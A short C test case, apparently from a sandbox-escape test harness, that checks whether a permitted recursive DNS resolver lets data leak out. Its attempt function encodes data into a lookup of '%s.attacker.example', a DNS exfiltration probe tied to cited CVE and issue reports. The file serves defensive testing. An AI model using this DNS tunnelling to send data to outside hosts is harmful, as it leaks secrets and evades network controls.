// SPDX-License-Identifier: Apache-2.0
/* A resolver that recurses carries the name to whoever serves its zone. */
#include "../case.h"

static void attempt(const struct target *t, struct attempt *a)
{
	resolver_tell(t, a, "%s.attacker.example", DNS_A);
}

CASE(dns_recursion) = { .title = "A name through the permitted resolver",
			.source = "field A4: CVE-2025-55284, httpjail #53, microsandbox #675",
			.group = "resolver",
			.families = FOUR,
			.settings = EVERYWHERE,
			.attempt = attempt };
